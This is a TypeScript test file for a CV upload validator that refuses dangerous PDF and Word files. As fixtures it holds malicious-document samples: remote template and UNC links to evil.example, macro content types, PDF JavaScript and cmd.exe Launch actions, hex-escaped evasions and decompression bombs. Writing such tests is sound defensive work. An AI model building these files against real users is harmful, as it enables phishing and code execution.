import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { CV_TYPES } from '#contract/schemas/job-application.ts';
import { inspectCv } from './cv-type.ts';
import {
  docxFile,
  executableFile,
  pdfFile,
  pdfObjectStream,
  pdfStream,
  relationshipType,
  relationships,
  zipFile,
} from '../../test-support/cv-files.ts';

const refusalOf = (data: Buffer) => inspectCv(data).refusal;

/** A zip whose directory claims `size` bytes for `name` (a zip bomb lies about what it inflates to). */
function withDeclaredSize(zip: Buffer, name: string, size: number): Buffer {
  const copy = Buffer.from(zip);
  for (let at = copy.indexOf('PK\x01\x02'); at >= 0; at = copy.indexOf('PK\x01\x02', at + 4)) {
    const nameLength = copy.readUInt16LE(at + 28);
    if (copy.toString('utf8', at + 46, at + 46 + nameLength) === name) copy.writeUInt32LE(size, at + 24);
  }
  return copy;
}

describe('inspectCv: what a CV is', () => {
  it('recognizes a PDF and a Word document by their bytes', () => {
    expect(inspectCv(pdfFile())).toEqual({ type: CV_TYPES.pdf });
    expect(inspectCv(docxFile())).toEqual({ type: CV_TYPES.docx });
    const stored = zipFile({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>' });
    expect(inspectCv(stored)).toEqual({ type: CV_TYPES.docx });
  });

  it('refuses an executable, another zip, a cut zip and text as no PDF or DOCX', () => {
    expect(refusalOf(executableFile())).toBe('cv_unsupported_format');
    expect(refusalOf(zipFile({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<w/>' }))).toBe(
      'cv_unsupported_format',
    );
    expect(refusalOf(docxFile().subarray(0, 120))).toBe('cv_unsupported_format');
    expect(refusalOf(Buffer.from('just some text, named cv.pdf'))).toBe('cv_unsupported_format');
    expect(refusalOf(Buffer.alloc(0))).toBe('cv_unsupported_format');
  });
});

describe('inspectCv: Word documents that run code or fetch content', () => {
  it('refuses a VBA project, wherever it sits and however its name is written', () => {
    expect(refusalOf(docxFile({ 'word/vbaProject.bin': Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) }))).toBe('cv_macros');
    expect(refusalOf(docxFile({ 'Word/VBAPROJECT.BIN': 'x' }))).toBe('cv_macros');
    expect(refusalOf(docxFile({ 'word/activeX/activeX1.xml': '<ax:ocx/>' }))).toBe('cv_macros');
  });

  it('refuses macro-enabled content types, even written with character references', () => {
    const types = (type: string) =>
      `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`;
    const docm = types('application/vnd.ms-word.document.macroEnabled.main+xml');
    expect(refusalOf(docxFile({ '[Content_Types].xml': docm }))).toBe('cv_macros');
    const dotm = types('application/vnd.ms-word.template.macroEnabledTemplate.main+xml');
    expect(refusalOf(docxFile({ '[Content_Types].xml': dotm }))).toBe('cv_macros');
    const escaped = types('application/vnd.ms-word.document.macro&#69;nabled.main+xml');
    expect(refusalOf(docxFile({ '[Content_Types].xml': escaped }))).toBe('cv_macros');
    const vba = types('application/vnd.ms-office.vbaProject');
    expect(refusalOf(docxFile({ '[Content_Types].xml': vba }))).toBe('cv_macros');
  });

  it('refuses an attached remote template and any other external target Word follows on opening', () => {
    const template = relationships(
      `<Relationship Id="rId1" Type="${relationshipType('attachedTemplate')}" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
    );
    expect(refusalOf(docxFile({ 'word/_rels/settings.xml.rels': template }))).toBe('cv_external_content');
    const linkedPicture = relationships(
      `<Relationship Id="rId9" Type="${relationshipType('image')}" Target="\\\\evil.example\\share\\a.png" TargetMode="External"/>`,
    );
    expect(refusalOf(docxFile({ 'word/_rels/document.xml.rels': linkedPicture }))).toBe('cv_external_content');
    // A hyperlink is clicked, never fetched: but not from the settings, where Word reads the template.
    const settingsLink = relationships(
      `<Relationship Id="rId1" Type="${relationshipType('hyperlink')}" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
    );
    expect(refusalOf(docxFile({ 'word/_rels/settings.xml.rels': settingsLink }))).toBe('cv_external_content');
  });

  it('reads the relationship however it is written: quotes, references, a prefix, a > in a value, UTF-16', () => {
    const written = [
      `<Relationship Type='${relationshipType('attachedTemplate')}' Target='https://evil.example/?a>b' TargetMode='&#69;xternal'/>`,
      `<pr:Relationship xmlns:pr="http://schemas.openxmlformats.org/package/2006/relationships" Id="r" Type="${relationshipType('oleObject')}" Target="https://evil.example/o" TargetMode = "External" />`,
      `<!-- " --><Relationship Id="r" Type="${relationshipType('frame')}" Target="https://evil.example/f" TargetMode="External"/>`,
    ];
    for (const tag of written) {
      expect(refusalOf(docxFile({ 'word/_rels/settings.xml.rels': relationships(tag) }))).toBe('cv_external_content');
    }
    const utf16 = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(
        relationships(
          `<Relationship Id="r" Type="${relationshipType('attachedTemplate')}" Target="https://evil.example/t" TargetMode="External"/>`,
        ),
        'utf16le',
      ),
    ]);
    expect(refusalOf(docxFile({ 'word/_rels/settings.xml.rels': utf16 }))).toBe('cv_external_content');
  });

  it('takes the links of a CV’s text, headers and footers', () => {
    const footerLink = relationships(
      `<Relationship Id="rId1" Type="${relationshipType('hyperlink')}" Target="https://weltaare.com" TargetMode="External"/>`,
    );
    expect(inspectCv(docxFile({ 'word/_rels/footer2.xml.rels': footerLink }))).toEqual({ type: CV_TYPES.docx });
  });

  it('refuses, without inflating it, a relationships part that swells past its bound', () => {
    const bomb = relationships(' '.repeat(8 * 1024 * 1024));
    expect(refusalOf(docxFile({ 'word/_rels/settings.xml.rels': bomb }))).toBe('cv_uncheckable');
    // The same part, its size understated in the directory: inflating stops at the bound all the same.
    const lying = withDeclaredSize(
      docxFile({ 'word/_rels/settings.xml.rels': bomb }),
      'word/_rels/settings.xml.rels',
      100,
    );
    expect(refusalOf(lying)).toBe('cv_uncheckable');
    expect(deflateRawSync(bomb).length).toBeLessThan(100 * 1024);
  });

  it('refuses a relationships part it cannot read: damaged, or with a DTD', () => {
    const damaged = withDeclaredSize(docxFile(), 'word/_rels/document.xml.rels', 3);
    expect(refusalOf(damaged)).toBe('cv_uncheckable');
    const dtd = `<!DOCTYPE r [<!ENTITY e "External">]>${relationships(`<Relationship Id="r" Target="x" TargetMode="&e;"/>`)}`;
    expect(refusalOf(docxFile({ 'word/_rels/settings.xml.rels': dtd }))).toBe('cv_uncheckable');
  });
});

describe('inspectCv: PDFs that run or open something', () => {
  it('refuses JavaScript, launch actions and attached files, hex-escaped or not', () => {
    const actions = [
      '<</Type/Action/S/JavaScript/JS(app.alert(1))>>',
      '<</OpenAction<</JS 5 0 R>>>>',
      '<</Type/Action/S/Launch/F(cmd.exe)>>',
      '<</Type/EmbeddedFile/Length 0>>',
      '<</Names<</EmbeddedFiles 6 0 R>>>>',
      '<</S/J#61vaScript/JS(app.alert(1))>>',
      '<</S /#4C#61unch>>',
    ];
    for (const action of actions) expect(refusalOf(pdfFile('CV', [action]))).toBe('cv_active_content');
  });

  it('finds them in compressed object streams, typed or not', () => {
    expect(refusalOf(pdfFile('CV', [pdfObjectStream('<</S/JavaScript/JS(app.alert(1))>>')]))).toBe('cv_active_content');
    expect(refusalOf(pdfFile('CV', [pdfObjectStream('<</OpenAction<</J#53 7 0 R>>>>', '')]))).toBe('cv_active_content');
    expect(refusalOf(pdfFile('CV', [pdfObjectStream('<</JS 7 0 R>>', '/Type/ObjStm', false)]))).toBe(
      'cv_active_content',
    );
  });

  it('takes a PDF whose text or compressed data only looks like them', () => {
    expect(inspectCv(pdfFile('CV', ['<</Title(Développeuse JavaScript)>>']))).toEqual({ type: CV_TYPES.pdf });
    const image = pdfStream('/Type/XObject/Subtype/Image/Width 2/Height 2', Buffer.from('\x00\x7f/JS \x01\xff'), false);
    expect(inspectCv(pdfFile('CV', [image]))).toEqual({ type: CV_TYPES.pdf });
    const objects = pdfObjectStream('<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://weltaare.com)>>>>');
    expect(inspectCv(pdfFile('CV', [objects]))).toEqual({ type: CV_TYPES.pdf });
  });

  it('refuses an object stream it cannot read: other filters, damaged or encrypted data, a bomb', () => {
    const hex = pdfStream('/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode', '39203020');
    expect(refusalOf(pdfFile('CV', [hex]))).toBe('cv_uncheckable');
    const scrambled = pdfStream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', Buffer.from('not deflate data'), false);
    expect(refusalOf(pdfFile('CV', [scrambled]))).toBe('cv_uncheckable');
    const bomb = pdfObjectStream(`<</Padding(${' '.repeat(20 * 1024 * 1024)})>>`);
    expect(bomb.length).toBeLessThan(100 * 1024);
    expect(refusalOf(pdfFile('CV', [bomb]))).toBe('cv_uncheckable');
  });
});
